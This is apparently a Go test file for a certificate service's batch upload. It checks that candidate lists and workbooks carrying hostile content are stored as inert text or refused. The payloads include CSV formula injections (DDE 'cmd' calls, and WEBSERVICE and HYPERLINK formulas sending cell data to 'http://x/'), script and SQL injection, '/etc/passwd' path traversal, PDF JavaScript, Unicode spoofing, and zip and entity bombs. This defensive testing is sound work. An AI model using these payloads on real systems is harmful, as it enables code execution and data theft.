package batch_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/mohor-sign/mohor/batch"
	"github.com/mohor-sign/mohor/ecert"
	"github.com/mohor-sign/mohor/internal/table"
)

// csvCell quotes a field as RFC 4180 does.
func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

func utf16le(s string, mark bool) string {
	var b []byte
	if mark {
		b = []byte{0xFF, 0xFE}
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// book makes a workbook of one sheet; more are further parts, by name.
func book(t *testing.T, sheet string, more ...string) string { return paddedBook(t, sheet, 0, more...) }

// paddedBook has megabytes of spaces in its sheet.
func paddedBook(t *testing.T, sheet string, megabytes int, more ...string) string {
	t.Helper()
	const main = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	parts := []string{
		"xl/workbook.xml", `<workbook ` + main + ` xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="worksheets/sheet1.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml", `<worksheet ` + main + `><sheetData>` + sheet + `</sheetData></worksheet>`,
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	parts = append(parts, more...)
	for k := 0; k < len(parts); k += 2 {
		f, err := w.Create(parts[k])
		must(t, err)
		head, tail, _ := strings.Cut(parts[k+1], "</sheetData>")
		_, err = f.Write([]byte(head))
		must(t, err)
		if tail == "" {
			continue
		}
		for range megabytes {
			_, err = f.Write(bytes.Repeat([]byte{' '}, 1<<20))
			must(t, err)
		}
		_, err = f.Write([]byte("</sheetData>" + tail))
		must(t, err)
	}
	must(t, w.Close())
	return b.String()
}

// sheetRow is a row of inline texts; what begins with < stands as it is.
func sheetRow(cells ...string) string {
	var b strings.Builder
	b.WriteString("<row>")
	for _, c := range cells {
		if !strings.HasPrefix(c, "<c") {
			c = `<c t="inlineStr"><is><t>` + strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(c) + `</t></is></c>`
		}
		b.WriteString(c)
	}
	return b.String() + "</row>"
}

func sheetOf(name, ic, month string) string {
	return sheetRow(strings.Split(strings.TrimSpace(header), ",")...) +
		sheetRow(name, ic, "S1000001", "TP-021-3:2013", "PEMBUATAN MAKANAN", "SKM 3", "L01", "PUSAT CONTOH", "2021/07", month, "ms")
}

const ic = "900101145678"

// hostile is an upload of one certificate, and what must become of it: taken with this name, a row refused with this
// code, or the upload refused whole ("").
type hostile struct {
	what, list string
	name, code string
}

func hostileLists(t *testing.T) []hostile {
	taken := func(what, name string) hostile {
		return hostile{what: what, list: header + row(csvCell(name), ic, "S1000001"), name: strings.TrimSpace(name)}
	}
	refused := func(what, name, code string) hostile {
		return hostile{what: what, list: header + row(csvCell(name), ic, "S1000001"), code: code}
	}
	whole := func(what, list string) hostile { return hostile{what: what, list: list} }
	good := row("ALI", ic, "S1000001")
	all := []hostile{
		taken("=", "=1+1"), taken("+", "+1+1"), taken("-", "-1+1"), taken("@", "@SUM(1+1)"), taken("space =", " =1+1"), taken("tab =", "\t=1+1"), taken("apostrophe =", "'=1+1"), taken("quote =", `"=1+1`),
		refused("CR =", "\r=1+1", ecert.CodeFieldInvalid), refused("LF =", "\n=1+1", ecert.CodeFieldInvalid), refused("CRLF inside", "ALI\r\nABU", ecert.CodeFieldInvalid),
		refused("full-width =", "＝1+1", ecert.CodeFieldInvalid), refused("full-width +", "＋1", ecert.CodeFieldInvalid), refused("full-width -", "－1", ecert.CodeFieldInvalid), refused("full-width @", "＠SUM(1)", ecert.CodeFieldInvalid),
		taken("DDE", "=cmd|' /C calc'!A0"), taken("DDE in a call", `=DDE("cmd";"/C calc";"x")`), taken("HYPERLINK", `=HYPERLINK("http://x/?"&A1,"ALI")`), taken("WEBSERVICE", `=WEBSERVICE("http://x/"&A1)`),
		taken("IMPORTXML", `=IMPORTXML(CONCAT("http://x/",A1),"//a")`), taken("a macro name", "=EXEC(\"calc\")"), taken("a pipe", "|=1"), taken("percent", "%0A=1+1"), taken("semicolon", "=1+1;"), taken("two signs", "=-+1"),
		taken("HTML", "<script>alert(1)</script>"), taken("an entity", "]]>&amp;<x/>"), taken("a template", "{{.Secret}}"), taken("SQL", "'); DROP TABLE items;--"), taken("a path", "../../etc/passwd"), taken("a format", "%s%n%x"),
		taken("PDF operators", "(Tj) ET \\)\\(<<>>"), taken("PDF objects", "%PDF-1.7 endstream endobj"), taken("PDF script", "<</JS(app.alert(1))>>"), taken("a URL", "javascript:alert(1)"),
		refused("RTL override", "ALI \u202eUBA", ecert.CodeFieldInvalid), refused("LTR embedding", "ALI\u202aX", ecert.CodeFieldInvalid), refused("isolate", "ALI\u2066X", ecert.CodeFieldInvalid), refused("zero width space", "AL\u200bI", ecert.CodeFieldInvalid),
		refused("zero width joiner", "AL\u200dI", ecert.CodeFieldInvalid), refused("soft hyphen", "AL\u00adI", ecert.CodeFieldInvalid), refused("BOM inside", "AL\ufeffI", ecert.CodeFieldInvalid), refused("line separator", "ALI\u2028ABU", ecert.CodeFieldInvalid),
		refused("bell", "ALI\x07", ecert.CodeFieldInvalid), refused("escape", "ALI\x1b[31m", ecert.CodeFieldInvalid), refused("delete", "ALI\x7f", ecert.CodeFieldInvalid), refused("C1", "ALI\u0085", ecert.CodeFieldInvalid),
		refused("replacement", "AL\ufffdI", ecert.CodeFieldInvalid), refused("private use", "ALI\ue000", ecert.CodeFieldInvalid), refused("a tag", "ALI\U000e0041", ecert.CodeFieldInvalid), refused("emoji", "ALI 😀", ecert.CodeFieldInvalid),
		refused("121 characters", strings.Repeat("A", 121), ecert.CodeFieldTooLong), refused("9,999 bytes", strings.Repeat("A", 9999), ecert.CodeFieldTooLong), refused("blank", " \t ", ecert.CodeFieldMissing), refused("no-break spaces", "\u00a0\u00a0", ecert.CodeFieldMissing),
		{what: "formula in the IC", list: header + row("ALI", `"=""900101145678"""`, "S1000001"), code: ecert.CodeICInvalid},
		{what: "an IC with a lost 0", list: header + row("ALI", "10101145678", "S1000001"), code: ecert.CodeICInvalid},
		{what: "formula in the number", list: header + row("ALI", ic, "=S1000001"), code: ecert.CodeFieldInvalid},
		{what: "homoglyph in the number", list: header + row("ALI", ic, "Ѕ1000001"), code: ecert.CodeFieldInvalid},
		{what: "formula in the programme", list: header + strings.Replace(good, "TP-021-3:2013", "=1+1", 1), code: ecert.CodeNOSSInvalid},
		{what: "another level's programme", list: header + strings.Replace(good, "TP-021-3:2013", "TP-021-4:2013", 1), code: ecert.CodeNOSSInvalid},
		{what: "a picture without a ZIP", list: strings.Replace(header, "\n", ",foto\n", 1) + strings.Replace(good, "\n", ",../../../etc/passwd\n", 1), code: ecert.CodePhotoInvalid},
		{what: "UTF-16 with a mark", list: utf16le(header+row("SITI É", ic, "S1000001"), true), name: "SITI É"},
		{what: "Windows-1252", list: header + row("SITI \xc9", ic, "S1000001"), name: "SITI É"},
		{what: "semicolons", list: strings.ReplaceAll(header+good, ",", ";"), name: "ALI"},
		{what: "tabs and a byte order mark", list: "\ufeff" + strings.ReplaceAll(header+good, ",", "\t"), name: "ALI"},
		{what: "CRLF and LF", list: strings.Replace(header, "\n", "\r\n", 1) + good + "\r\n", name: "ALI"},
		whole("UTF-16 without a mark", utf16le(header+good, false)), whole("half a character", "\xff\xfe"+"n\x00a"), whole("NUL", header+row("A\x00LI", ic, "S1000001")), whole("CR alone", strings.ReplaceAll(header+good, "\n", "\r")),
		whole("UTF-8 and Latin-1", header+row("SITI É \xc9", ic, "S1000001")), whole("overlong", header+row("A\xc0\xafI\x81", ic, "S1000001")), whole("a surrogate", header+row("A\xed\xa0\x80É", ic, "S1000001")),
		whole("10 MB field", header+row(strings.Repeat("A", 10<<20), ic, "S1000001")), whole("10 MB quoted field", header+row(`"`+strings.Repeat("A\n", 5<<20)+`"`, ic, "S1000001")),
		whole("a quote that does not end", header+good+`"ALI`), whole("a bare quote", header+row(`AL"I`, ic, "S1000001")), whole("text behind a quote", header+row(`"ALI"X`, ic, "S1000001")),
		whole("a column twice", strings.Replace(header, "kod_pusat", "name", 1)+good), whole("an unknown column", strings.Replace(header, "tahap", "gred", 1)+good), whole("two separators", strings.Replace(header, ",", ";", 1)+good),
		whole("too few fields", header+good+"ALI,1\n"), whole("too many fields", header+strings.Replace(good, "\n", ",x\n", 1)), whole("a thousand columns", strings.Repeat("x,", 1000)+"\n"), whole("nothing", ""), whole("a picture", "\x89PNG\r\n\x1a\n"),
	}
	big := book(t, sheetOf("ALI", ic, "072021"), "xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si><t/></si>", 1_100_000)+"</sst>")
	return append(all,
		hostile{what: "workbook: text that looks like a formula", list: book(t, sheetOf("=1+1", ic, "072021")), name: "=1+1"},
		hostile{what: "workbook: IC as a number", list: book(t, sheetOf("ALI", `<c><v>9.00101145678E11</v></c>`, "072021")), name: "ALI"},
		hostile{what: "workbook: a date", list: book(t, sheetOf("ALI", ic, `<c s="14"><v>44378</v></c>`)), code: ecert.CodeFieldInvalid},
		hostile{what: "workbook: merged cells", list: book(t, sheetOf("ALI", "<c/>", "072021")), code: ecert.CodeFieldMissing},
		hostile{what: "workbook: links to others", list: book(t, sheetOf("ALI", ic, "072021"), "xl/externalLinks/externalLink1.xml", `<externalLink><externalBook r:id="rId1"/></externalLink>`), name: "ALI"},
		whole("workbook: a formula", book(t, sheetOf(`<c><f>HYPERLINK("http://x")</f><v>ALI</v></c>`, ic, "072021"))),
		whole("workbook: a formula of another workbook", book(t, sheetOf(`<c t="str"><f>[1]Sheet1!A1</f><v>ALI</v></c>`, ic, "072021"))),
		whole("workbook: an error", book(t, sheetOf(`<c t="e"><v>#REF!</v></c>`, ic, "072021"))),
		whole("workbook: macros", book(t, sheetOf("ALI", ic, "072021"), "xl/vbaProject.bin", "x")),
		whole("workbook: a bomb", paddedBook(t, sheetOf("ALI", ic, "072021"), 260)),
		whole("workbook: a bomb of texts", big),
		whole("workbook: an entity bomb", book(t, `<!DOCTYPE x [<!ENTITY a "aaaa">]><row><c t="inlineStr"><is><t>&a;</t></is></c></row>`)),
		whole("workbook: cells out of order", book(t, `<row><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>`)),
		whole("workbook: half of one", book(t, sheetOf("ALI", ic, "072021"))[:300]),
	)
}

// Nothing that comes in a list is active, makes the gateway fall, or is taken in by half.
func TestHostileLists(t *testing.T) {
	h := newHouse(t)
	h.svc.MaxUpload = 64 << 20
	var err error
	h.svc.Renderer, err = ecert.NewRenderer(ecert.Options{Sandbox: true})
	must(t, err)
	rows := hostileLists(t)
	if len(rows) < 60 {
		t.Fatalf("%d payloads", len(rows))
	}
	for _, p := range rows {
		id := h.create(t, batch.Ecert)
		before := h.stored(t)
		if p.name == "" && p.code == "" {
			h.refuses(t, p.what, id, table.ErrRefused, func() error {
				_, err := h.svc.AddCandidates(ctx, h.App.ID, id, "r", strings.NewReader(p.list))
				return err
			})
			if h.stored(t) != before || len(h.items(t, id)) != 0 {
				t.Errorf("%s: something of it was kept", p.what)
			}
			continue
		}
		got, err := h.svc.AddCandidates(ctx, h.App.ID, id, "r", strings.NewReader(p.list))
		if err != nil {
			t.Errorf("%s: %v", p.what, err)
			continue
		}
		items := h.items(t, id)
		switch {
		case p.code != "" && (got.Accepted != 0 || got.RefusedCount != 1 || got.Refused[0].Code != p.code || len(items) != 0 || h.stored(t) != before):
			t.Errorf("%s: %+v, want %s, and nothing stored", p.what, got, p.code)
		case p.name != "" && (got.Accepted != 1 || len(items) != 1 || items[0].Record.Candidate.Name != p.name):
			t.Errorf("%s: %+v, %+v, want the name %q", p.what, got, items, p.name)
		}
		// The number is free again for the next.
		must(t, h.svc.Cancel(ctx, h.App.ID, id, "r"))
	}
}

// As what a list was read, its sender is told.
func TestListsSayHowTheyWereRead(t *testing.T) {
	h := newHouse(t)
	var err error
	h.svc.Renderer, err = ecert.NewRenderer(ecert.Options{Sandbox: true})
	must(t, err)
	for k, x := range []struct{ list, encoding, notes string }{
		{header + row("ALI", ic, "S%d"), "utf-8", ""},
		{"\ufeff" + header + row("ALI", ic, "S%d"), "utf-8", ""},
		{header + row("JOS\xc9", ic, "S%d"), "windows-1252", "encoding"},
		{strings.ReplaceAll(header+row("JOS\xc9", ic, "S%d"), ",", ";"), "windows-1252", "encoding separator"},
		{strings.ReplaceAll(header+row("ALI", ic, "S%d"), ",", "\t"), "utf-8", "separator"},
		{header + row("ALI", ic, "S%d") + row("ALI", ic, "T%[1]d"), "utf-8", "person_twice"},
		{header + strings.ReplaceAll(row("ALI", ic, "S%d")+row("ALI", ic, "T%[1]d"), "SKM 3", "PC"), "utf-8", ""}, // parts of a programme
	} {
		got, err := h.svc.AddCandidates(ctx, h.App.ID, h.create(t, batch.Ecert), "r", strings.NewReader(fmt.Sprintf(x.list, 1000001+k)))
		must(t, err)
		var notes []string
		for _, n := range got.Notes {
			if notes = append(notes, n.Code); n.Text == "" || n.TextMS == "" {
				t.Errorf("a note without words: %+v", n)
			}
		}
		if got.Encoding != x.encoding || strings.Join(notes, " ") != x.notes || got.RefusedCount != 0 {
			t.Errorf("%q: %+v", x.list, got)
		}
	}
}

// A number is of one certificate, whichever batch has it.
func TestNumbersOfEarlierBatches(t *testing.T) {
	h := newHouse(t)
	var err error
	h.svc.Renderer, err = ecert.NewRenderer(ecert.Options{Sandbox: true})
	must(t, err)
	add := func(id, number string) batch.Intake {
		got, err := h.svc.AddCandidates(ctx, h.App.ID, id, "r", strings.NewReader(header+row("ALI", ic, number)))
		must(t, err)
		return got
	}
	first, second := h.create(t, batch.Ecert), h.create(t, batch.Ecert)
	add(first, "S1000001")
	got := add(second, "S1000001")
	if got.Accepted != 0 || len(got.Refused) != 1 || got.Refused[0].Code != ecert.CodeNumberDuplicate || got.Refused[0].Column != "no_sijil" || !strings.Contains(got.Refused[0].Detail, `batch "Kelompok Julai" (2026-07-01)`) {
		t.Errorf("%+v", got)
	}
	if _, err := h.svc.Seal(ctx, h.App.ID, first, false, "r"); err != nil {
		t.Fatal(err)
	}
	if got := add(second, "s1000001"); got.Accepted != 0 {
		t.Errorf("of a sealed batch: %+v", got)
	}
	must(t, h.svc.Cancel(ctx, h.App.ID, first, "r"))
	if got := add(second, "S1000001"); got.Accepted != 1 {
		t.Errorf("of a cancelled batch: %+v", got)
	}
}
